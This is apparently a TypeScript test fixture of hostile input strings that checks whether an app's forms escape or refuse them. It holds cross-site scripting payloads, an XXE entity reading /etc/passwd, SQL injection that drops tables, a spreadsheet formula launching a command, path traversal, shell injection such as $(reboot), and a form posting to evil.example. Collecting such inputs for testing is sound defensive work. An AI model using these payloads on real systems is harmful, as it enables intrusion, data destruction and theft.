/** Texts that mean something to whoever shows them carelessly. Each runs, breaks or hides something where it is not escaped. */
export interface HostileText {
  name: string
  text: string
  /** Whether the forms take it, as it is, in a text of several lines: what can be shown harmlessly is not refused. */
  taken: boolean
}

const taken = (name: string, text: string): HostileText => ({ name, text, taken: true })
const refused = (name: string, text: string): HostileText => ({ name, text, taken: false })

/** Sets a variable that the journeys look for, and opens a dialog, wherever it runs. */
const RUN = 'window.hostile=1;alert(1)'

export const hostileTexts: HostileText[] = [
  taken('a script', `I rest. <script>${RUN}</script>`),
  taken('an image that fails', `<img src=x onerror="${RUN}"> I rest.`),
  taken('a drawing', `<svg/onload='${RUN}'><animate onbegin=${RUN} attributeName=x> I rest.`),
  taken('the end of an attribute', `"><b onmouseover="${RUN}" autofocus onfocus="${RUN}">I rest.</b>`),
  taken('the end of an attribute in single quotes', `' autofocus onfocus='${RUN}' x='`),
  taken('the end of a JSON-LD script', `</script><script>${RUN}</script>{"@type":"Thing"}`),
  taken('a comment that swallows the page', `I rest. <!--<script>${RUN}//--> <!-- ]]> <![CDATA[`),
  taken('the end of a title and of a style', `</title></style></textarea><script>${RUN}</script>`),
  taken('a frame and a base', `<base href=//evil.example><iframe srcdoc="<script>${RUN}</script>"></iframe> I rest.`),
  taken(
    'a form over the page',
    `<form action=//evil.example style="position:fixed;inset:0"><input name=q></form> I rest.`
  ),
  taken('a refresh', `<meta http-equiv=refresh content="0;url=javascript:${RUN}"> I rest.`),
  taken('an address that runs', `[I rest](javascript:${RUN}) *javascript:${RUN}* [@wood2009]`),
  taken('entities', '&lt;script&gt; &amp;amp; &#60;b&#62; &notit; I rest.'),
  taken('XML', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x> ]]> <?php phpinfo() ?>'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as somebody may type it.
  taken('templates', '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> #{7*7} {% raw %} $& $1 $`'),
  taken('SQL', `'; DROP TABLE "Affirmation"; -- ' OR '1'='1' /* "); DELETE FROM Subscriber; */`),
  taken('a formula', `=cmd|' /C calc'!A0 +1-1 @SUM(1;1)`),
  taken('headers of a mail', 'I rest.\r\nBcc: everyone@example.org\r\nSubject: hello\r\n\r\n.\r\nQUIT'),
  taken('paths', '../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd %2e%2e%2f%00'),
  taken('printf and shell', '%s%n%x $(reboot) `reboot` ; reboot | reboot && reboot > /etc/passwd'),
  taken('prototypes', '__proto__ constructor hasOwnProperty toString {"__proto__":{"admin":true}}'),
  taken('one very long word', `I ${'re'.repeat(240)}st.`),
  taken('one very long word of emoji', '🙂'.repeat(240)),
  taken('a family of emoji', 'We rest 👩‍👩‍👧‍👦 🏳️‍🌈 🧑🏽‍🚀 1️⃣ 🇺🇸.'),
  taken('right to left', 'أنا أستريح 123 <b>الآن</b>. I rest, שלום (ok).'),
  taken('marks on marks', `I ${[...'rest'].map((letter) => letter + '\u0300\u0316\u034a\u0489'.repeat(14)).join('')}.`),
  taken('zero-width spaces', 'I\u200b re\u200dst\u2060, and\u00ad soft.'),
  taken('odd spaces and dashes', 'I\u00a0rest\u2003–\u2028now\u2029and\u3000then ‐‑‒–—―'),
  taken('other scripts', '静かに息をする。 Ж ћ ß ﬁ Ǆ İi ıI ẞ ΐ 𝕀 𝓻𝓮𝓼𝓽 ① Ⅷ.'),
  refused('escapes of a terminal', 'I rest \u001b[2J\u001b[31m\u001b]0;owned\u0007\u009b31m.'),
  refused('NUL', 'I rest\u0000.'),
  refused('a backspace', 'I rest\b\b\b\bwork.'),
  refused('a turned direction', 'I rest \u202egnp.exe\u202c \u2066now\u2069.'),
  refused('a byte order mark', '\ufeffI\ufeff rest.'),
  refused('half a pair', 'I rest \ud83d.'),
  refused('no character', 'I rest \uffff\ufffe.'),
  refused('nothing to see', '\u200b\u2060\u00ad\u3164\u034f')
]
